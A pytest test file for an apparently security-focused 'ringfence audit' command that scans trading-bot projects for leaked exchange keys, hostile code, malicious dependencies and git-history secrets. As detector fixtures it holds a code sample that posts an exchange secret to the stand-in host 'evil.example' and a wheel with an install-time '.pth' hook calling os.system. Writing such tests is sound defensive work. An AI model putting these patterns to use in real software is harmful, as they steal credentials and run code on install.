"""`ringfence audit`, typed as a user types it: what is found, what is said, and the code it exits with."""

import hashlib
import json
import os
import subprocess
import zipfile
from pathlib import Path

import pytest

from tests.audit.test_history import commit, git
from tests.cli.terminal import PASSPHRASE, Said, ringfence

_OPEN = {"passphrase": PASSPHRASE}
HOSTILE = """
import ccxt, requests
exchange = ccxt.binance({"apiKey": "k", "secret": "s"})
requests.post("https://evil.example/c", json={"s": exchange.secret})
"""
HARMLESS = "import ccxt\n\nprint(ccxt.binance().fetch_ticker('BTC/USDT'))\n"


def pair(salt: str) -> tuple[str, str]:
    """Make two values that look like a key and its secret, the same each time and random to the eye."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    made = []
    for half in "ks":
        stream = hashlib.sha512(f"{salt}{half}".encode()).digest()
        made.append("".join(letters[byte % 62] for byte in stream))
    return made[0], made[1]


@pytest.fixture
def bot(tmp_path: Path) -> Path:
    """An empty directory of a bot."""
    (tmp_path / "bot").mkdir()
    return tmp_path / "bot"


def audit(home: Path, *words: str | Path) -> Said:
    """Run an audit."""
    return ringfence(home, "audit", *map(str, words))


def rules(said: Said) -> set[str]:
    """List the rules that found something."""
    return {one["rule"] for one in said.json()["findings"]}


def test_a_leaked_key_is_found_and_never_shown(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("a")
    (bot / ".env").write_text(f"BINANCE_API_KEY={key}\nBINANCE_API_SECRET={secret}\n")
    for words in ((), ("--json",), ("--all",)):
        said = audit(tmp_path, "secrets", bot, *words)
        assert said.code == 1
        assert secret not in said.out + said.err
        assert secret[4:16] not in said.out + said.err
    assert "secrets/exchange-pair" in rules(audit(tmp_path, "secrets", bot, "--json"))


def test_hostile_code_is_found_with_the_way_of_the_key_and_harmless_code_is_not(tmp_path: Path, bot: Path) -> None:
    (bot / "run.py").write_text(HARMLESS)
    assert audit(tmp_path, "code", bot).code == 0
    (bot / "run.py").write_text(HOSTILE)
    said = audit(tmp_path, "code", bot)
    assert said.code == 1
    assert "code/credential-sent" in said.out
    assert "evil.example" in said.out
    assert "behind Ringfence: the bot never has the key" in " ".join(said.out.split())


def test_a_malicious_dependency_is_found_without_a_network(tmp_path: Path, bot: Path) -> None:
    (bot / "requirements.txt").write_text("ccxt-mexc-futures==1.0\n")
    said = audit(tmp_path, "deps", bot, "--json")
    assert said.code == 1
    assert "deps/known-malicious" in rules(said)


def test_all_of_it_at_once_says_what_each_alone_says(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("b")
    (bot / "config.json").write_text(json.dumps({"exchange": {"name": "binance", "key": key, "secret": secret}}))
    (bot / "run.py").write_text(HOSTILE)
    (bot / "requirements.txt").write_text("ccxt-mexc-futures==1.0\n")
    alone = set[str]()
    for what in ("secrets", "code", "deps"):
        alone |= rules(audit(tmp_path, what, bot, "--json"))
    assert rules(audit(tmp_path, "all", bot, "--json")) == alone


def test_nothing_to_find_is_said_so(tmp_path: Path, bot: Path) -> None:
    said = audit(tmp_path, "secrets", bot, "--json")
    assert (said.code, said.json()["findings"], said.json()["unanswered"]) == (0, [], [])
    assert "nothing found" in audit(tmp_path, "secrets", bot).out


def test_what_was_not_looked_at_is_no_pass(tmp_path: Path, bot: Path) -> None:
    os.mkfifo(bot / "pipe.py")
    (bot / "linked.json").symlink_to("/etc/hostname")
    said = audit(tmp_path, "secrets", bot)
    assert said.code == 5
    assert "NOT LOOKED AT" in said.out
    assert "2 not looked at" in " ".join(said.out.split())


@pytest.mark.parametrize(("least", "code"), [("critical", 0), ("high", 1), ("low", 1)])
def test_the_threshold_decides_on_the_exit_code(tmp_path: Path, bot: Path, least: str, code: int) -> None:
    (bot / "run.py").write_text("import requests\nrequests.get('https://example.invalid', verify=False)\n")
    assert audit(tmp_path, "code", bot, "--fail-on", least).code == code


def test_a_path_that_is_not_there_and_a_setting_that_is_none_are_said(tmp_path: Path) -> None:
    said = audit(tmp_path, "code", tmp_path / "nowhere")
    assert said.code == 2
    assert "No such file" in said.err


def test_waivers_come_from_the_owner_and_not_from_the_tree(tmp_path: Path, bot: Path) -> None:
    waiver = '[[waiver]]\nrule = "code/tls-off"\npath = "*"\nreason = "mine"\nuntil = 2026-12-31\n'
    (bot / "run.py").write_text("import requests\nrequests.get('https://example.invalid', verify=False)\n")
    (bot / "waivers.toml").write_text(waiver)
    assert audit(tmp_path, "code", bot).code == 1
    (tmp_path / "waivers.toml").write_text(waiver.replace("2026-12-31", "2020-01-01"))
    ended = audit(tmp_path, "code", bot)
    assert ended.code == 1
    assert "a waiver ended on 2020-01-01" in ended.out


def test_a_baseline_leaves_what_is_new(tmp_path: Path, bot: Path) -> None:
    (bot / "old.py").write_text("import requests\nrequests.get('https://example.invalid', verify=False)\n")
    before = audit(tmp_path, "code", bot, "--json")
    (tmp_path / "before.json").write_text(before.out)
    assert audit(tmp_path, "code", bot, "--baseline", tmp_path / "before.json").code == 0
    (bot / "new.py").write_text(HOSTILE)
    said = audit(tmp_path, "code", bot, "--baseline", tmp_path / "before.json", "--json")
    assert (said.code, rules(said), said.json()["known"]) == (1, {"code/credential-sent"}, 1)


def test_sarif_and_a_page_are_written_beside(tmp_path: Path, bot: Path) -> None:
    (bot / "run.py").write_text(HOSTILE)
    audit(tmp_path, "code", bot, "--sarif", tmp_path / "o.sarif", "--html", tmp_path / "o.html")
    told = json.loads((tmp_path / "o.sarif").read_text())
    assert told["runs"][0]["results"][0]["ruleId"] == "code/credential-sent"
    assert "evil.example" in (tmp_path / "o.html").read_text()
    refused = audit(tmp_path, "code", bot, "--sarif", tmp_path / "none" / "o.sarif")
    assert refused.code == 2


def test_a_key_in_the_history_is_found_with_the_commit_and_how_to_get_it_out(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("c")
    git(bot, "init", "-q", "-b", "main")
    first = commit(bot, 1, config=f"BINANCE_API_KEY={key}\nBINANCE_API_SECRET={secret}\n")
    commit(bot, 2, config="clean now\n")
    said = audit(tmp_path, "secrets", bot, "--json")
    assert said.code == 1
    places = {(one["place"]["path"], one["place"]["commit"]) for one in said.json()["findings"]}
    assert places == {("config.txt", first)}
    assert all("no longer in HEAD" in one["text"] for one in said.json()["findings"])
    assert all("git filter-repo --path config.txt" in one["fix"] for one in said.json()["findings"])
    assert audit(tmp_path, "secrets", bot, "--no-history").code == 0


def test_a_key_in_a_file_that_is_committed_is_told_of_both(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("d")
    git(bot, "init", "-q", "-b", "main")
    first = commit(bot, 1, config=f"BINANCE_API_KEY={key}\nBINANCE_API_SECRET={secret}\n")
    commit(bot, 2, other="x")
    found = audit(tmp_path, "secrets", bot, "--json").json()["findings"]
    assert {one["place"]["commit"] for one in found} == {"", first}


def test_a_packed_file_in_the_history_is_opened_too(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("f")
    git(bot, "init", "-q", "-b", "main")
    with zipfile.ZipFile(bot / "old.zip", "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(".env", f"BINANCE_API_KEY={key}\nBINANCE_API_SECRET={secret}\n")
    git(bot, "add", "-A")
    git(bot, "commit", "-q", "-m", "x", at=1)
    (bot / "old.zip").unlink()
    commit(bot, 2, other="x")
    found = audit(tmp_path, "secrets", bot, "--json").json()["findings"]
    assert {(one["rule"], one["place"]["path"]) for one in found} >= {("secrets/exchange-pair", "old.zip")}


def test_a_password_in_a_repositorys_own_settings_is_found(tmp_path: Path, bot: Path) -> None:
    git(bot, "init", "-q", "-b", "main")
    assert audit(tmp_path, "secrets", bot).code == 0
    git(bot, "remote", "add", "origin", f"https://me:{pair('g')[0][:24]}@code.example/bot.git")
    said = audit(tmp_path, "secrets", bot, "--json")
    assert (said.code, rules(said)) == (1, {"secrets/url-credentials"})


def test_the_vaults_own_secrets_are_known_in_any_form(home: Path, bot: Path) -> None:
    held = ringfence(home, "bot", "env", "grid", "--format", "json", secrets=_OPEN).json()
    (bot / "notes.bin").write_bytes(b"\0\1" + held["secret"].encode().hex().encode())
    said = audit(home, "secrets", bot, "--json")
    assert "secrets/known" in rules(said)
    assert "bot grid" in said.out
    again = ringfence(home, "audit", "remember", secrets=_OPEN)
    assert again.out.startswith("0 secret(s) are new")


def test_a_commit_with_a_secret_is_refused_and_one_without_goes_through(tmp_path: Path, bot: Path) -> None:
    key, secret = pair("e")
    git(bot, "init", "-q", "-b", "main")
    assert audit(tmp_path, "hook", bot).code == 0
    (bot / "a.txt").write_text("nothing\n")
    git(bot, "add", "-A")
    git(bot, "commit", "-q", "-m", "x", at=1)
    (bot / ".env").write_text(f"BINANCE_API_KEY={key}\nBINANCE_API_SECRET={secret}\n")
    git(bot, "add", "-A")
    (bot / ".env").write_text("BINANCE_API_KEY=\n")  # what counts is what is staged
    with pytest.raises(subprocess.CalledProcessError) as refused:
        git(bot, "commit", "-q", "-m", "y", at=2)
    assert "secrets/exchange-pair" in refused.value.stderr
    assert audit(tmp_path, "hook", bot).code == 0
    assert audit(tmp_path, "hook", bot, "--undo").code == 0
    git(bot, "commit", "-q", "-m", "y", at=3)


def test_somebody_elses_hook_is_left_alone(tmp_path: Path, bot: Path) -> None:
    git(bot, "init", "-q")
    (bot / ".git/hooks/pre-commit").write_text("#!/bin/sh\n")
    said = audit(tmp_path, "hook", bot)
    assert said.code == 2
    assert "audit secrets --staged" in said.err
    assert "no hook of ours" in audit(tmp_path, "hook", bot, "--undo").out
    assert (bot / ".git/hooks/pre-commit").read_text() == "#!/bin/sh\n"


def test_an_upgrade_shows_what_it_gained_and_nothing_else(tmp_path: Path) -> None:
    for version, text in (("1", HARMLESS), ("2", HARMLESS + "import subprocess\nsubprocess.run(['curl'])\n")):
        (tmp_path / version).mkdir()
        (tmp_path / version / "a.py").write_text(text)
    same = audit(tmp_path, "powers", tmp_path / "1", "--against", tmp_path / "1")
    assert (same.code, same.out.strip()) == (0, "it can do nothing that the earlier version could not")
    more = audit(tmp_path, "powers", tmp_path / "2", "--against", tmp_path / "1", "--json")
    assert more.code == 1
    assert {one["power"] for one in more.json()["gained"]} == {"program"}


def test_names_that_steer_a_terminal_do_not(tmp_path: Path, bot: Path) -> None:
    (bot / "a\x1b[2J\nb.py").write_text(HOSTILE)
    said = audit(tmp_path, "code", bot)
    assert "\x1b[2J" not in said.out
    assert said.code == 1


def test_a_download_is_judged_before_it_is_installed_and_its_hash_is_told(tmp_path: Path, bot: Path) -> None:
    wheel = bot / "ccxtt-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as made:
        made.writestr("ccxtt-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: ccxtt\nVersion: 1.0\n")
        made.writestr("evil.pth", "import os; os.system('true')\n")
    said = audit(tmp_path, "deps", wheel, "--download")
    assert said.code == 1
    assert hashlib.sha256(wheel.read_bytes()).hexdigest() in "".join(said.out.split())
    assert "'ccxtt'" in said.out


def test_an_sbom_is_written_beside(tmp_path: Path, bot: Path) -> None:
    (bot / "requirements.txt").write_text("requests==2.25.0\n")
    audit(tmp_path, "deps", bot, "--sbom", tmp_path / "bom.json")
    bill = json.loads((tmp_path / "bom.json").read_text())
    assert (bill["specVersion"], bill["components"][0]["purl"]) == ("1.6", "pkg:pypi/requests@2.25.0")
    assert bill["vulnerabilities"]


def test_a_snapshot_that_was_changed_is_no_snapshot_and_the_shipped_one_stands_in(tmp_path: Path, bot: Path) -> None:
    (bot / "requirements.txt").write_text("ccxt-mexc-futures==1.0\n")
    (tmp_path / "snapshot.ringsnap").write_bytes(b"RINGSNP\n" + b"x" * 500)
    found = rules(audit(tmp_path, "deps", bot, "--json"))
    assert {"deps/known-malicious", "deps/snapshot-unsigned"} <= found


def test_a_file_that_is_no_snapshot_brings_nothing_in(tmp_path: Path) -> None:
    (tmp_path / "PyPI.zip").write_bytes(b"PK\5\6" + b"\0" * 18)
    said = audit(tmp_path, "update", "--from", tmp_path / "PyPI.zip")
    assert said.code == 2
    assert not (tmp_path / "snapshot.ringsnap").exists()
